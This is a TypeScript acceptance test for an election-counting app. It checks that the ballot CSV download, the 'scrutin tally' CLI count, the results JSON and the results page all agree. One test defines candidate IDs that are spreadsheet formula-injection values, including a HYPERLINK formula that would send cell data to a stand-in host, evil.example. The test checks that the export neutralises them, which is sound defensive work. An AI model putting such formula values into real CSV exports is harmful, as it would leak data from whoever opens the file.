// The acceptance path of the count, on each database: real ballots cast through the
// ballot service, the election closed by the clock, the officers' CSV downloaded and
// counted by `scrutin tally` (in-process, from a temporary file), and the result
// compared with the results page and the JSON download. First on the real Elekto
// sample ("name_the_app", whose published results.md we reproduce from four ballots),
// then on a larger election with three seats, ties and unranked candidates.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { run } from '../../src/cli.js';
import type { CommandIO } from '../../src/commands/types.js';
import type { ElectionEntry } from '../../src/core/meta/types.js';
import { loadSnapshot } from '../../src/metarepo/load.js';
import type { SessionUser } from '../../src/views/page.js';
import { startTestApp, type TestApp, type TestClient } from '../helpers/app.js';
import { dialects } from '../helpers/db.js';
import { entryOf, makeCandidate, makeElection } from '../helpers/meta.js';
import { copyFixture, tempDir } from '../metarepo/fixture.js';

interface ResultJson {
  seats: number;
  ballots: number;
  candidates: Array<{ id: string; name: string }>;
  pairwise: Record<string, Record<string, number>>;
  strongest: Record<string, Record<string, number>>;
  ranking: string[][];
  winners: string[];
  ties: Array<{ candidates: string[]; firstSeat: number; lastSeat: number }>;
}

const SAMPLE_DURING = new Date('2023-08-10T12:00:00Z');
const SAMPLE_AFTER = new Date('2023-09-01T00:00:00Z');

/** An election voting from 1 to 20 August 2023, with kalkayan as its officer. */
function augustElection(key: string, name: string, candidates: ReturnType<typeof makeCandidate>[], voters: string[], noWinners = 1) {
  return makeElection({
    key,
    name,
    startDatetime: new Date('2023-08-01T00:00:00Z'),
    endDatetime: new Date('2023-08-20T00:00:00Z'),
    noWinners,
    voters,
    officers: ['kalkayan'],
    candidates,
  });
}

const IDS = ['ava', 'bea', 'cal', 'dex', 'eli', 'fox'];
const steering = augustElection(
  'steering',
  'Steering 2026',
  IDS.map((id) => makeCandidate(id, `${id[0]!.toUpperCase()}${id.slice(1)} Example`)),
  Array.from({ length: 40 }, (_, i) => `voter${i}`),
  3,
);

// Candidate IDs come from file names (`candidate-<ID>.md`), which anyone opening a pull
// request chooses: these would be formulas in a spreadsheet if written as they are.
const HOSTILE_IDS = ['=HYPERLINK("https://evil.example/?"&A1,"Vote")', '+cmd', '-2+3', '@SUM(1)', "'=quoted", 'plain'];
const hostile = augustElection(
  'hostile',
  'Hostile names',
  HOSTILE_IDS.map((id) => makeCandidate(id, `Candidate ${id}`)),
  ['voter0', 'voter1', 'voter2'],
);

// More candidates than the results page shows tables for, and few ballots, so the
// ranking is one large tie whose explanation is longer than the page shows.
const WIDE_IDS = Array.from({ length: 120 }, (_, i) => `c${String(i).padStart(3, '0')}`);
const wide = augustElection(
  'wide',
  'Many candidates',
  WIDE_IDS.map((id) => makeCandidate(id)),
  ['voter0', 'voter1', 'voter2'],
);

/** A small deterministic generator, so a failure can be replayed. */
function generator(seed: number): (n: number) => number {
  let s = seed;
  return (n) => {
    s = (Math.imul(s, 1664525) + 1013904223) >>> 0;
    return Math.floor((s / 2 ** 32) * n);
  };
}

/** Ballot fields: a rank for most candidates (with ties), no opinion for some. */
function randomBallot(random: (n: number) => number): Record<string, string> {
  const fields: Record<string, string> = {};
  for (const id of IDS) {
    // Ava is liked, Fox is not: the result is not a mere tie everywhere.
    const skew = id === 'ava' ? -1 : id === 'fox' ? 2 : 0;
    fields[id] = random(6) === 0 ? '' : String(Math.min(6, Math.max(1, 1 + random(4) + skew)));
  }
  return fields;
}

for (const kind of dialects()) {
  describe(`download, scrutin tally and the results page agree on ${kind}`, () => {
    let t: TestApp;
    let meta: { path: string; cleanup: () => void };
    let work: { path: string; cleanup: () => void };
    const users = new Map<string, SessionUser>();

    before(async () => {
      meta = tempDir();
      work = tempDir('scrutin-roundtrip-');
      copyFixture(meta.path);
      const sample = await loadSnapshot({ root: meta.path, electionDir: 'elections' });
      const entries = new Map<string, ElectionEntry>(sample.entries);
      entries.set('steering', entryOf(steering));
      entries.set('hostile', entryOf(hostile));
      entries.set('wide', entryOf(wide));
      t = await startTestApp({ kind, now: SAMPLE_DURING, snapshot: { ...sample, entries } });
    });
    after(async () => {
      await t.close();
      meta.cleanup();
      work.cleanup();
    });

    async function cast(login: string, electionKey: string, ranks: Record<string, string>): Promise<void> {
      let user = users.get(login);
      if (user === undefined) {
        const row = await t.service.ctx.store.users.recordSignIn({ login, name: null, githubId: null, now: SAMPLE_DURING });
        user = { id: row.id, login: row.login, name: row.name };
        users.set(login, user);
      }
      const fields = Object.fromEntries(Object.entries(ranks).map(([id, r]) => [`candidate@${id}`, r]));
      const outcome = await t.service.ctx.ballots.cast({ user, electionKey, fields, passphrase: '', confirmAbstention: true });
      assert.ok(outcome.ok, `${login}: ${JSON.stringify(outcome)}`);
    }

    async function tallyCli(args: string[]): Promise<{ code: number; out: string; err: string }> {
      let out = '';
      let err = '';
      const io: CommandIO = {
        out: (s) => {
          out += s;
        },
        err: (s) => {
          err += s;
        },
        env: {},
        cwd: work.path,
      };
      const code = await run(['tally', ...args], io);
      return { code, out, err };
    }

    async function officer(): Promise<TestClient> {
      const c = t.client();
      await c.signIn('kalkayan');
      return c;
    }

    /** Downloads the CSV, counts it with the CLI, and returns both JSONs and the page. */
    async function roundTrip(key: string, seats: number): Promise<{ cli: ResultJson; web: ResultJson; page: string; csv: string }> {
      const c = await officer();
      const csv = await c.get(`/app/elections/${key}/admin/download`);
      assert.equal(csv.statusCode, 200, csv.body.slice(0, 300));
      const file = join(work.path, `${key}-ballots.csv`);
      writeFileSync(file, csv.rawPayload);
      const counted = await tallyCli([`${key}-ballots.csv`, '--winners', String(seats), '--format', 'json']);
      assert.equal(counted.code, 0, counted.err);
      const web = await c.get(`/app/elections/${key}/admin/results.json`);
      assert.equal(web.statusCode, 200);
      const page = await c.get(`/app/elections/${key}/admin/results`);
      assert.equal(page.statusCode, 200);
      return { cli: JSON.parse(counted.out) as ResultJson, web: JSON.parse(web.body) as ResultJson, page: page.body, csv: csv.body };
    }

    function sameCount(cli: ResultJson, web: ResultJson): void {
      assert.deepEqual(
        cli.candidates.map((c) => c.id),
        web.candidates.map((c) => c.id),
      );
      for (const field of ['seats', 'ballots', 'pairwise', 'strongest', 'ranking', 'winners', 'ties'] as const) {
        assert.deepEqual(cli[field], web[field], field);
      }
    }

    test('the Elekto sample "name_the_app": four ballots reproduce its published result, everywhere', async () => {
      t.setNow(SAMPLE_DURING);
      await cast('jberkus', 'name_the_app', { elekto: '1', delectus: '2', e6n: '3', ribemont: '4', notcivs: '5' });
      await cast('jdumars', 'name_the_app', { elekto: '1', delectus: '2', e6n: '4', ribemont: '3', notcivs: '5' });
      await cast('kalkayan', 'name_the_app', { elekto: '2', delectus: '1', e6n: '3', ribemont: '3', notcivs: '4' });
      await cast('markyjackson-taulia', 'name_the_app', { elekto: '1', delectus: '2', e6n: '3', ribemont: '3', notcivs: '' });
      const early = await (await officer()).get('/app/elections/name_the_app/admin/download');
      assert.equal(early.statusCode, 403, 'no download while voting is open');

      t.setNow(SAMPLE_AFTER);
      const { cli, web, page, csv } = await roundTrip('name_the_app', 1);
      assert.equal(csv.split('\r\n')[0], 'delectus,e6n,elekto,notcivs,ribemont');
      sameCount(cli, web);
      // Worked out by hand: elekto beats everyone; delectus beats all but elekto; e6n and
      // ribemont are level (1 ballot each way); Not CIVS is last. As published in 2021.
      assert.deepEqual(web.ranking, [['elekto'], ['delectus'], ['e6n', 'ribemont'], ['notcivs']]);
      assert.deepEqual(web.winners, ['elekto']);
      assert.deepEqual(web.ties, []);
      assert.equal(web.pairwise.elekto?.delectus, 3);
      assert.equal(web.pairwise.e6n?.ribemont, 1);
      assert.equal(web.pairwise.ribemont?.e6n, 1);
      const winners = /<ol class="winners">([\s\S]*?)<\/ol>/.exec(page)?.[1] ?? '';
      assert.match(winners, /<strong>elekto<\/strong>/);
      const draft = /<textarea id="draft-text"[^>]*>([\s\S]*?)<\/textarea>/.exec(page)?.[1] ?? '';
      for (const line of [
        '## Select The Name of the Application',
        'There were 5 eligible voters. 4 ballots were cast, which is 80% participation.',
        '## Winner: elekto',
        '2nd: delectus',
        '3rd: tie between e6n and Ribemont',
        '5th: Not CIVS',
      ])
        assert.ok(draft.includes(line), `draft has: ${line}\n${draft}`);
    });

    test('forty voters, three seats, ties and no-opinion: the CLI count of the download equals the page and the JSON', async () => {
      t.setNow(new Date('2023-08-05T00:00:00Z'));
      const random = generator(20260517);
      const cast_: Array<Record<string, string>> = [];
      for (let i = 0; i < 37; i++) {
        const ballot = randomBallot(random);
        cast_.push(ballot);
        await cast(`voter${i}`, 'steering', ballot);
      }
      t.setNow(new Date('2023-08-20T00:00:01Z'));
      const { cli, web, page, csv } = await roundTrip('steering', 3);
      sameCount(cli, web);
      assert.equal(web.ballots, 37);
      assert.equal(web.seats, 3);
      // The CSV holds exactly the ballots cast, in another order.
      const rows = csv.split('\r\n').slice(1, -1);
      const expected = cast_.map((b) => IDS.map((id) => (b[id] === '' ? 'No opinion' : b[id])).join(','));
      assert.deepEqual([...rows].sort(), [...expected].sort());
      // The page names the same winners, and the same tie if there is one.
      const label = (id: string) => `${id[0]!.toUpperCase()}${id.slice(1)} Example`;
      const winners = [...(/<ol class="winners">([\s\S]*?)<\/ol>/.exec(page)?.[1] ?? '').matchAll(/<strong>([^<]+)<\/strong>/g)].map(
        (m) => m[1],
      );
      assert.deepEqual(winners, web.winners.map(label));
      for (const tie of web.ties)
        assert.ok(
          page.includes(`Tie for seat${tie.firstSeat === tie.lastSeat ? ` ${tie.firstSeat}` : `s ${tie.firstSeat} to ${tie.lastSeat}`}:`),
        );
      const placed = [...page.matchAll(/<th scope="row">([^<]+)<\/th>\s*<td><code>([a-z]+)<\/code>/g)].map((m) => m[2]);
      assert.deepEqual(placed, web.ranking.flat());
    });

    test('candidate IDs that look like formulas: the download neutralises them and scrutin tally reads back the same IDs and count', async () => {
      t.setNow(new Date('2023-08-05T00:00:00Z'));
      const ranks = (order: number[]) => Object.fromEntries(HOSTILE_IDS.map((id, i) => [id, String(order[i])]));
      await cast('voter0', 'hostile', ranks([1, 2, 3, 4, 5, 6]));
      await cast('voter1', 'hostile', ranks([2, 1, 3, 5, 4, 6]));
      await cast('voter2', 'hostile', ranks([1, 3, 2, 4, 6, 5]));
      t.setNow(new Date('2023-08-20T00:00:01Z'));
      const { cli, web, csv } = await roundTrip('hostile', 1);
      // No cell of the file starts as a formula would: = + - @ (after the optional quote).
      const header = csv.split('\r\n')[0]!;
      for (const m of header.matchAll(/(?:^|,)("?)([^,]*)/g)) assert.doesNotMatch(m[2]!, /^[=+\-@\t\r]/, header);
      assert.ok(header.includes('"\'=HYPERLINK(""https://evil.example/?""&A1,""Vote"")"'), header);
      assert.deepEqual(
        cli.candidates.map((c) => c.id),
        [...HOSTILE_IDS].sort(),
      );
      sameCount(cli, web);
      assert.deepEqual(web.winners, ['=HYPERLINK("https://evil.example/?"&A1,"Vote")']);
    });

    test('120 candidates: counted in a worker, the page leaves the tables and most reasons to the JSON, which equals scrutin tally of the download', async () => {
      t.setNow(new Date('2023-08-05T00:00:00Z'));
      const random = generator(7);
      // Each ballot ranks about one candidate in five: most pairs are never compared.
      for (const login of ['voter0', 'voter1', 'voter2'])
        await cast(login, 'wide', Object.fromEntries(WIDE_IDS.map((id) => [id, random(5) === 0 ? String(1 + random(10)) : ''])));
      t.setNow(new Date('2023-08-20T00:00:01Z'));
      const { cli, web, page } = await roundTrip('wide', 1);
      // The whole JSON, explanations included, but for the display names the CLI cannot
      // know and the method the CLI names (it counts several).
      const { method, ...counted } = cli as ResultJson & { method?: string };
      assert.equal(method, 'schulze');
      assert.deepEqual({ ...counted, candidates: [] }, { ...web, candidates: [] });
      const full = web as ResultJson & { explanation: { adjacent: unknown[] } };
      assert.ok(full.explanation.adjacent.length > 1000, `a long explanation (${full.explanation.adjacent.length})`);
      assert.match(page, /With 120 candidates the pairwise table \(120 × 120\) is too large for a page/);
      assert.doesNotMatch(page, /<table class="matrix"/);
      assert.equal((page.match(/<li><strong>/g) ?? []).length, 1000 + web.winners.length);
      assert.ok(
        page.includes(`… and ${full.explanation.adjacent.length - 1000} more, in the results JSON`),
        'the page says how many reasons it left out',
      );
    });
  });
}
